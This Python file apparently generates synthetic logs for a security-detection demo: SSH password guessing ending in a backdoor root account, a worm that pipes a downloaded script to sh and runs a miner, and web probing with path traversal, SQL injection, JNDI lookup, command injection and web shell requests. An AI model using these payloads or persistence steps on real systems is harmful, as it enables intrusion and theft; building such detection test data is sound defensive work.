"""Attacks that come from the internet."""

from __future__ import annotations

import random
from datetime import datetime, timedelta

from bigsec.demo.estate import (
    BASTION,
    GUESSER,
    INTRUDER,
    OFFICE,
    POOL,
    RESOLVER,
    WEB,
    WORM,
)
from bigsec.demo.journal import ACCESS, DNS, EVE, LINUX, Journal
from bigsec.demo.journal import OFFICE as OFFICE_FILE
from bigsec.demo.render import access, dns, eve, history, syslog
from bigsec.demo.story import Story, rule_id

_GUESSED_NAMES = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "www", "backup", "user1")
_CURL = "curl/8.5.0"
_NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
_POOL_NAME = "pool.miner.example"
_INVOKE = "s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo"


def guessed_root(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """Passwords are guessed over SSH until root's gives way; then a way back is made."""
    at = end - timedelta(hours=6)

    def tell(program: str, message: str, pid: int | None = None, after: int = 0) -> None:
        nonlocal at
        at += timedelta(seconds=after)
        journal.add(LINUX, at, syslog(at, BASTION, program, message, pid))

    for _ in range(120):
        pid, port = dice.randrange(20000, 60000), dice.randrange(30000, 65000)
        name = dice.choice((*_GUESSED_NAMES, "root", "root", "root", "root"))
        who = "root" if name == "root" else f"invalid user {name}"
        if name != "root":
            tell("sshd", f"Invalid user {name} from {GUESSER} port {port}", pid)
        failed = f"Failed password for {who} from {GUESSER} port {port} ssh2"
        tell("sshd", failed, pid, after=dice.randrange(3, 12))
    many = f"maximum authentication attempts exceeded for root from {GUESSER} port 51790 ssh2"
    tell("sshd", f"error: {many} [preauth]", 60213)
    tell("sshd", f"Accepted password for root from {GUESSER} port 51812 ssh2", 60214, after=31)
    opened = "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"
    tell("sshd", opened, 60214)
    new = "name=svc-update, UID=1002, GID=1002, home=/home/svc-update, shell=/bin/bash"
    tell("useradd", f"new user: {new}, from=/dev/pts/2", 60240, after=170)
    tell("usermod", "add 'svc-update' to group 'sudo'", 60243, after=12)
    key = "echo ssh-ed25519 AAAAC3NzDemo svc >> /home/svc-update/.ssh/authorized_keys"
    tell(*history(0, key), 60219, after=40)
    tell(*history(0, "history -c"), 60219, after=25)
    return Story(
        name="guessed-root",
        about="Root's password on the bastion is guessed from outside; an account is left behind.",
        rules=(
            rule_id("sshd_invalid_user"),
            rule_id("sshd_failed_password_root"),
            rule_id("sshd_too_many_attempts"),
            rule_id("sshd_accepted_password_root"),
            rule_id("linux_new_login_user"),
            rule_id("linux_user_joins_admin_group"),
            rule_id("linux_authorized_keys_written"),
            rule_id("linux_history_wiped"),
        ),
        entities=(("ip", GUESSER), ("user", "root"), ("host", BASTION.name)),
    )


def miner(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """A worm gets in by a weak password of a service, and mines."""
    at = end - timedelta(hours=9)

    def tell(program: str, message: str, pid: int, after: int) -> None:
        nonlocal at
        at += timedelta(seconds=after)
        journal.add(LINUX, at, syslog(at, OFFICE, program, message, pid))

    for _ in range(6):
        port, full = dice.randrange(30000, 65000), dice.randrange(10, 19)
        dropped = f"from [{WORM}]:{port} on [{OFFICE.ip}]:22 past MaxStartups"
        tell("sshd", f"drop connection #{full} {dropped}", 902, dice.randrange(1, 5))
    for _ in range(25):
        port = dice.randrange(30000, 65000)
        failed = f"Failed password for git from {WORM} port {port} ssh2"
        tell("sshd", failed, dice.randrange(20000, 60000), dice.randrange(1, 5))
    tell("sshd", f"Accepted password for git from {WORM} port 40811 ssh2", 33107, 3)
    tell("crontab", "(git) REPLACE (git)", 33121, 9)
    tell("CROND", f"(git) CMD (curl -fsSL http://{WORM}/u.sh | sh)", 33140, 45)
    tell("CROND", f"(git) CMD (/tmp/.x/kworkerd -o stratum+tcp://{_POOL_NAME}:3333)", 33188, 60)
    for _ in range(12):
        source = (OFFICE.ip, dice.randrange(32768, 60999))
        at += timedelta(seconds=dice.randrange(20, 60))
        journal.add(DNS, at, dns(at, source, RESOLVER.ip, _POOL_NAME, POOL))
    alert = {
        "action": "allowed",
        "gid": 1,
        "signature_id": 9000202,
        "rev": 1,
        "signature": "DEMO COINMINER Pool log-on",
        "category": "Crypto Currency Mining Activity Detected",
        "severity": 2,
    }
    journal.add(EVE, at, eve(at, "alert", (OFFICE.ip, 41880), (POOL, 3333), alert=alert))
    at += timedelta(minutes=4)
    found = "发现病毒 Linux.Miner.Demo 文件 /tmp/.x/kworkerd 隔离失败"
    journal.add(OFFICE_FILE, at, syslog(at, OFFICE, "hostguard", found, 331))
    return Story(
        name="miner",
        about="A worm guesses the password of a service on the office server and mines there.",
        rules=(
            rule_id("sshd_connections_dropped"),
            rule_id("crontab_replaced_by_service"),
            rule_id("cron_downloads_and_runs"),
            rule_id("cron_runs_from_temp"),
            rule_id("linux_miner_command"),
            rule_id("dns_mining_pool"),
            rule_id("suricata_alert_miner"),
            rule_id("linux_malware_not_removed"),
        ),
        entities=(("ip", WORM), ("ip", OFFICE.ip), ("host", OFFICE.name), ("domain", _POOL_NAME)),
    )


def web_shell(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """A web server is scanned, attacked in several ways, and answers from an upload folder."""
    at = end - timedelta(hours=4)

    def ask(request: str, status: int, size: int, agent: str = _CURL) -> None:
        nonlocal at
        at += timedelta(seconds=dice.randrange(1, 15))
        line = access(at, INTRUDER, f"{request} HTTP/1.1", status, size, agent)
        journal.add(ACCESS, at, line)

    for path in ("admin", "phpmyadmin/", "backup.zip", ".git/HEAD", "server-status", "test.php"):
        ask(f"GET /{path}", 404, 512, _NIKTO)
    ask("GET /download?file=../../../../etc/passwd", 403, 199)
    ask("GET /download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 403, 199)
    ask(f"GET /index.php?{_INVOKE}", 404, 512)
    ask("GET /services/permits?district=7%27%20OR%20%271%27=%271", 500, 640)
    ask("GET /services/permits?district=7+UNION+ALL+SELECT+login,hash+FROM+staff--", 500, 640)
    ask("GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.80%2Fa%7D", 200, 7001)
    ask("GET /tools/ping?host=127.0.0.1;id", 200, 1203)
    ask("POST /services/permits/attach", 302, 0)
    ask("GET /uploads/2026/crest.php?cmd=whoami", 200, 9)
    for _ in range(4):
        ask("POST /uploads/2026/crest.php", 200, dice.randrange(80, 4000))
    alert = {
        "action": "allowed",
        "gid": 1,
        "signature_id": 9000101,
        "rev": 1,
        "signature": "DEMO WEB_SERVER Command output in response of an uploaded script",
        "category": "Successful Administrator Privilege Gain",
        "severity": 1,
    }
    source, target = (INTRUDER, 40122), (WEB.ip, 80)
    journal.add(EVE, at, eve(at, "alert", source, target, alert=alert, app_proto="http"))
    return Story(
        name="web-shell",
        about="A scan of the public site turns into attacks, then into a web shell that answers.",
        rules=(
            rule_id("web_scanner_user_agent"),
            rule_id("web_admin_page_probe"),
            rule_id("web_path_traversal"),
            rule_id("web_thinkphp_invoke"),
            rule_id("web_sql_injection"),
            rule_id("web_jndi_lookup"),
            rule_id("web_command_injection"),
            rule_id("web_webshell_command"),
            rule_id("web_webshell_post"),
            rule_id("suricata_alert_severe"),
        ),
        entities=(("ip", INTRUDER), ("ip", WEB.ip)),
    )
